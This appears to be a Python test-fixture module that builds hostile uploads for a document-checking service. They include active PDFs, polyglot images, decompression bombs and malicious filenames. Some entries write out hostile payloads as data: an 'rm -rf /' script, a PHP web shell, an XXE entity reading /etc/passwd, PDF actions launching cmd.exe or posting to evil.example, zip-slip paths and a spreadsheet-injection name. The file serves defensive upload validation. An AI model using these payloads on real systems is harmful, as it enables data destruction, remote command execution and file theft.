"""More than sixty files an attacker would hand in, each made when it is needed, with what must become of it."""

from __future__ import annotations

import struct
import zipfile
import zlib
from dataclasses import dataclass
from io import BytesIO
from typing import TYPE_CHECKING, Any, Literal

from brandcert.documents import services
from tests.documents import files

if TYPE_CHECKING:
    from collections.abc import Callable

TEST_VIRUS = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
WEB_PAGE = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
PROGRAM = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode" + b"\0" * 60


@dataclass(frozen=True)
class Hostile:
    """One file: its name, how it is made, and the one cause it is refused for; None where it is made harmless."""

    title: str
    make: Callable[[], bytes]
    cause: type[services.UploadRefused] | None
    name: str = "evidence.pdf"


def archive(*, inside: str = "a.txt", body: bytes = b"text") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(inside, body)
    return out.getvalue()


def pdf_with(change: Callable[[Any, Any], None], **saving: Any) -> bytes:
    """Make a PDF of one page and let `change(pikepdf, document)` do its harm."""
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    change(pikepdf, document)
    out = BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def acting(**action: Any) -> bytes:
    """Make a PDF that acts when it is opened."""

    def change(pikepdf: Any, document: Any) -> None:
        made = {
            f"/{key}": pikepdf.Name(value) if str(value).startswith("/") else value
            for key, value in action.items()
        }
        document.Root.OpenAction = pikepdf.Dictionary(made)

    return pdf_with(change)


def annotated(**annotation: Any) -> bytes:
    """Make a PDF whose page carries an annotation."""

    def change(pikepdf: Any, document: Any) -> None:
        made = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9])
        for key, value in annotation.items():
            if isinstance(value, dict):
                inner = {f"/{k}": pikepdf.Name(v) if v.startswith("/") else v for k, v in value.items()}
                made[f"/{key}"] = pikepdf.Dictionary(inner)
            else:
                made[f"/{key}"] = pikepdf.Name(value) if value.startswith("/") else value
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(made)])

    return pdf_with(change)


def attached(name: str, body: bytes) -> bytes:
    def change(pikepdf: Any, document: Any) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(document, body, filename=name)

    return pdf_with(change)


def in_root(key: str, value: Callable[[Any], Any], **saving: Any) -> bytes:
    def change(pikepdf: Any, document: Any) -> None:
        document.Root[key] = value(pikepdf)

    return pdf_with(change, **saving)


def script_in_object_stream() -> bytes:
    import pikepdf

    return in_root(
        "/OpenAction",
        lambda p: p.Dictionary(S=p.Name.JavaScript, JS="app.alert(1)"),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def script_with_masked_name() -> bytes:
    plain = acting(S="/JavaScript", JS="app.alert(1)")
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


def script_nobody_points_to() -> bytes:
    """Make a PDF with a script in an object no page leads to; another reader may find it."""
    body = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    body += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R/Size 5>>\nstartxref\n0\n%%EOF"


def bomb(size: int, *, times: int = 1, kind: str = "") -> bytes:
    """Make a PDF with a stream of zeros that unfolds to `size` bytes, packed `times` times."""

    def change(pikepdf: Any, document: Any) -> None:
        packer = zlib.compressobj(6)
        packed = (
            b"".join(packer.compress(b"\0" * 1_048_576) for _ in range(size // 1_048_576)) + packer.flush()
        )
        for _ in range(times - 1):
            packed = zlib.compress(packed, 9)
        stream = pikepdf.Stream(document, packed)
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * times)
        if kind:
            stream.Type = pikepdf.Name(kind)
        document.Root.Weight = document.make_indirect(stream)

    return pdf_with(change, compress_streams=False, stream_decode_level=_as_it_is())


def _as_it_is() -> Any:
    import pikepdf

    return pikepdf.StreamDecodeLevel.none


def object_stream_bomb() -> bytes:
    """Make a PDF whose page lies in an object stream of half a gigabyte: reading it at all needs the memory."""
    packer = zlib.compressobj(6)
    head = b"2 0 3 40 "
    packed = packer.compress(
        head + b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(40) + b"<</Type/Page/Parent 2 0 R>>"
    )
    packed += b"".join(packer.compress(b" " * 1_048_576) for _ in range(512)) + packer.flush()
    out = BytesIO(b"")
    out.write(b"%PDF-1.7\n")
    catalog = out.tell()
    out.write(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
    objects = out.tell()
    out.write(b"4 0 obj<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(packed))
    out.write(packed + b"\nendstream endobj\n")
    table = out.tell()
    rows = [(0, 0, 0), (1, catalog, 0), (2, 4, 0), (2, 4, 1), (1, objects, 0), (1, table, 0)]
    body = b"".join(struct.pack(">BIB", *row) for row in rows)
    out.write(b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(body))
    out.write(body + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table)
    return out.getvalue()


def picture_bomb_in_pdf() -> bytes:
    def change(pikepdf: Any, document: Any) -> None:
        picture = pikepdf.Stream(document, zlib.compress(b"\0" * 1_000_000))
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width = picture.Height = 60000
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))

    return pdf_with(change)


def outside_stream() -> bytes:
    def change(pikepdf: Any, document: Any) -> None:
        stream = pikepdf.Stream(document, b"")
        stream["/F"] = pikepdf.String("/etc/passwd")
        document.Root.Data = document.make_indirect(stream)

    return pdf_with(change)


def nested(depth: int) -> bytes:
    deep = b"[" * depth + b"]" * depth
    body = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X "
        + deep
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    )
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


def pages_in_a_circle() -> bytes:
    body = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n"
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


def png_with(name: bytes, body: bytes) -> bytes:
    """Put a further chunk into a good PNG."""
    good = files.picture("PNG")
    chunk = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return good[:33] + chunk + good[33:]


def jpeg_with_comment(body: bytes) -> bytes:
    good = files.picture("JPEG")
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + good[2:]


def owner_locked() -> bytes:
    import pikepdf

    return pdf_with(
        lambda _p, _d: None,
        encryption=pikepdf.Encryption(user="", owner="owner", allow=pikepdf.Permissions(extract=False)),
    )


def _locked(strength: Literal[3, 6]) -> bytes:
    import pikepdf

    return pdf_with(
        lambda _p, _d: None,
        encryption=pikepdf.Encryption(
            user="secret", owner="owner", R=strength, aes=strength > 3, metadata=strength > 3
        ),
    )


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
WRONG, HIDDEN, ACTIVE = services.WrongKind, services.HiddenContent, services.ActiveContent
BROKEN, HEAVY, LOCKED = services.BrokenFile, services.PictureTooLarge, services.EncryptedFile
OTHER_KINDS = [
    Hostile(title, lambda data=data: data, WRONG, name)  # type: ignore[misc] # the default binds each body
    for title, data, name in [
        ("web page", WEB_PAGE, "page.pdf"),
        ("SVG with a handler", SVG, "logo.png"),
        ("XML that reads files", XML, "data.pdf"),
        ("XML in UTF-16", XML.decode().encode("utf-16"), "data.pdf"),
        ("program", PROGRAM, "检验报告.pdf.exe"),
        ("shell script", b"#!/bin/sh\nrm -rf /\n", "run.pdf"),
        ("PHP", b"<?php system($_GET['c']); ?>", "shell.php.jpg"),
        ("Java class", b"\xca\xfe\xba\xbe" + b"\0" * 40, "a.jpg"),
        ("archive", archive(), "files.zip"),
        ("archive with a way out", archive(inside="../../etc/cron.d/x"), "files.pdf"),
        ("archive bomb", archive(body=b"\0" * 20_000_000), "bomb.pdf"),
        ("Word with macros", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "report.doc"),
        ("RTF", b"{\\rtf1{\\object\\objdata 0105}}", "report.pdf"),
        ("PostScript", b"%!PS-Adobe-3.0\n(/etc/passwd) run", "print.pdf"),
        ("GIF before a PDF", b"GIF89a" + files.pdf(), "both.pdf"),
        ("archive before a PDF", archive() + files.pdf(), "both.pdf"),
        ("web page before a PDF", WEB_PAGE + files.pdf(), "both.pdf"),
        ("TIFF", b"II*\0" + b"\0" * 40, "scan.png"),
        ("BMP", b"BM" + b"\0" * 60, "scan.jpg"),
        ("WebP", b"RIFF\x20\0\0\0WEBPVP8 " + b"\0" * 20, "scan.jpg"),
        ("HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 40, "IMG_1.HEIC"),
        ("virus pattern", TEST_VIRUS, "eicar.com"),
        ("shortcut", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "营业执照.pdf.lnk"),
        ("one byte", b"%", "a.pdf"),
        ("zeros", b"\0" * 5000, "a.pdf"),
    ]
]
ACTIVE_PDFS = [
    Hostile(title, make, ACTIVE)
    for title, make in [
        ("script on opening", lambda: acting(S="/JavaScript", JS="app.alert(1)")),
        ("script in an object stream", script_in_object_stream),
        ("script under a masked name", script_with_masked_name),
        ("script nobody points to", script_nobody_points_to),
        (
            "script in the name tree",
            lambda: in_root("/Names", lambda p: p.Dictionary(JavaScript=p.Dictionary(Names=[]))),
        ),
        (
            "script of a page",
            lambda: in_root("/AA", lambda p: p.Dictionary(WC=p.Dictionary(S=p.Name.JavaScript, JS="x"))),
        ),
        ("starting a program", lambda: acting(S="/Launch", F="cmd.exe")),
        ("sending a form", lambda: acting(S="/SubmitForm", F="https://evil.example/")),
        ("loading data", lambda: acting(S="/ImportData", F="C:/data.fdf")),
        ("going into an attachment", lambda: acting(S="/GoToE", D="x")),
        ("going to another file", lambda: acting(S="/GoToR", F=r"\\evil.example\share\a.pdf")),
        ("calling an address on opening", lambda: acting(S="/URI", URI="https://evil.example/")),
        (
            "link to a script",
            lambda: annotated(Subtype="/Link", A={"S": "/URI", "URI": "javascript:alert(1)"}),
        ),
        (
            "link to a share",
            lambda: annotated(Subtype="/Link", A={"S": "/URI", "URI": r"\\evil.example\share"}),
        ),
        (
            "link to a local file",
            lambda: annotated(Subtype="/Link", A={"S": "/URI", "URI": "file:///etc/passwd"}),
        ),
        ("attached program", lambda: attached("setup.exe", PROGRAM)),
        ("attached text", lambda: attached("note.txt", b"hello")),
        ("attachment on a page", lambda: annotated(Subtype="/FileAttachment", Contents="x")),
        ("XFA form", lambda: in_root("/AcroForm", lambda p: p.Dictionary(XFA=p.String(XML.decode()[:20])))),
        ("film", lambda: annotated(Subtype="/RichMedia", Contents="x")),
        ("sound", lambda: annotated(Subtype="/Sound", Contents="x")),
        ("stream from outside", outside_stream),
    ]
]
FILES_IN_FILES = [
    Hostile(title, make, HIDDEN, name)
    for title, make, name in [
        ("PDF and archive", lambda: files.pdf() + archive(), "both.pdf"),
        ("PDF and second PDF", lambda: files.pdf() + files.pdf(2), "both.pdf"),
        ("PDF and program", lambda: files.pdf() + PROGRAM, "both.pdf"),
        ("PDF and web page", lambda: files.pdf() + WEB_PAGE, "both.pdf"),
        (
            "web page in the head of a PDF",
            lambda: files.pdf().replace(b"\n", b"\n%" + WEB_PAGE + b"\n", 1),
            "x.pdf",
        ),
        ("PDF with an entity", lambda: files.pdf() + XML, "x.pdf"),
        ("JPEG and archive", lambda: files.picture("JPEG") + archive(), "photo.jpg"),
        (
            "JPEG with PHP in its comment",
            lambda: jpeg_with_comment(b"<?php system('id'); ?>"),
            "photo.php.jpg",
        ),
        (
            "JPEG with a script in its comment",
            lambda: jpeg_with_comment(b"*/=alert(1)/*<script>"),
            "photo.jpg",
        ),
        ("JPEG and PDF", lambda: jpeg_with_comment(files.pdf()), "photo.jpg"),
        ("PNG and archive", lambda: files.picture("PNG") + archive(), "photo.png"),
        (
            "PNG with a web page in a text chunk",
            lambda: png_with(b"tEXt", b"Comment\0" + WEB_PAGE),
            "photo.png",
        ),
        ("PNG with an SVG", lambda: png_with(b"tEXt", b"Comment\0" + SVG), "photo.png"),
        ("PNG with an entity", lambda: png_with(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XML), "photo.png"),
    ]
]
HEAVY_FILES = [
    Hostile("PDF bomb", lambda: bomb(128 * 1_048_576), HEAVY),
    Hostile("PDF bomb packed twice", lambda: bomb(128 * 1_048_576, times=2), HEAVY),
    Hostile("page content that is a bomb", lambda: bomb(80 * 1_048_576, kind="/XObject"), HEAVY),
    Hostile("object stream that is a bomb", object_stream_bomb, BROKEN),
    Hostile("picture bomb in a PDF", picture_bomb_in_pdf, HEAVY),
    Hostile("PNG bomb", lambda: files.png_header(60000, 60000), HEAVY, "photo.png"),
    Hostile("JPEG with a giant second frame", files.jpeg_with_second_frame, HEAVY, "photo.jpg"),
    Hostile("book of 1001 pages", lambda: files.pdf(1001), HEAVY),
    Hostile("one byte too large", lambda: b"%PDF-1.7" + b"x" * (20 * 1024 * 1024), services.FileTooLarge),
]
BROKEN_FILES = [
    Hostile("empty", lambda: b"", services.EmptyFile),
    Hostile("head of a PDF alone", lambda: b"%PDF-1.7", BROKEN),
    Hostile("rubbish after the head of a PDF", lambda: b"%PDF-1.7\n" + b"rubbish " * 50, BROKEN),
    Hostile("half a PDF", lambda: files.pdf()[:200], BROKEN),
    Hostile("PDF without pages", lambda: nested(3), BROKEN),
    Hostile("deeply nested PDF", lambda: nested(100_000), BROKEN),
    Hostile("pages in a circle", pages_in_a_circle, BROKEN),
    Hostile("half a PNG", lambda: files.picture("PNG")[:60], BROKEN, "photo.png"),
    Hostile("half a JPEG", lambda: files.picture("JPEG", (400, 300))[:-300], BROKEN, "photo.jpg"),
    Hostile("PNG without width", lambda: files.png_header(0, 30), BROKEN, "photo.png"),
    Hostile(
        "PNG text bomb",
        lambda: png_with(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 50_000_000)),
        BROKEN,
        "photo.png",
    ),
    Hostile("locked, old way", lambda: _locked(3), LOCKED),
    Hostile("locked, new way", lambda: _locked(6), LOCKED),
    Hostile("virus pattern in a PDF", lambda: files.pdf() + b"%" + TEST_VIRUS, services.VirusFound),
    Hostile(
        "virus pattern in a photo", lambda: jpeg_with_comment(TEST_VIRUS), services.VirusFound, "photo.jpg"
    ),
]
# Good content under a bad name: taken, and the name made harmless.
BAD_NAMES = [
    Hostile(f"name {name[:12]!r}", files.pdf, None, name)
    for name in [
        "../../../etc/passwd",
        "..\\..\\windows\\system32\\a.pdf",
        "C:\\con.pdf",
        "invoice\u202efdp.exe",
        "\u2066a\u2069.pdf",
        "a\0b.pdf",
        "a\r\nX-Injected: 1.pdf",
        "证" * 4000 + ".pdf",
        "<img src=x onerror=alert(1)>.pdf",
        "report.pdf.exe",
        "=cmd|' /C calc'!A0.pdf",
        ".htaccess",
        "",
        " . ",
    ]
]
REFUSED = [*OTHER_KINDS, *ACTIVE_PDFS, *FILES_IN_FILES, *HEAVY_FILES, *BROKEN_FILES]
ALL = [*REFUSED, *BAD_NAMES, Hostile("locked against copying only", owner_locked, None)]
